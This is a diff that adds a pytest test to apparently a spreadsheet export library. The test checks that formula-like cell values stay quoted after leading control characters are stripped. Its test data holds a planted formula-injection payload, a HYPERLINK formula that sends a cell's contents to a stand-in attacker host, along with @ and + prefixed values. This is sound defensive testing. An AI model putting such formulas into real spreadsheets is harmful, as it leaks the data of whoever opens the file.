@@ -211,6 +211,22 @@ def test_xlsx_drops_control_characters_xml_cannot_hold():
     assert book.active["A2"].value == "bell name"
 
 
+def test_a_control_character_in_front_does_not_hide_a_formula():
+    """XML cannot hold \x01, so the writer drops it: what is left must still be quoted."""
+    planted = ['\x01=HYPERLINK("http://attacker.example/?x="&C2)', "\x02\x03@SUM(A1)", "\x1b+1"]
+    book = load(xlsx_bytes([("S", ["\x01=Header"], [[text] for text in planted])]))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)
+    assert [cell.value for cell in cells] == [
+        "'=Header",
+        '\'=HYPERLINK("http://attacker.example/?x="&C2)',
+        "'@SUM(A1)",
+        "'+1",
+    ]
+    # In a CSV file the character stays, and the cell is quoted all the same.
+    assert all(str(neutralise(text)).startswith("'") for text in planted)
+
+
 def test_xlsx_needs_a_sheet():
     with pytest.raises(ValueError, match="at least one sheet"):
         xlsx_bytes([])
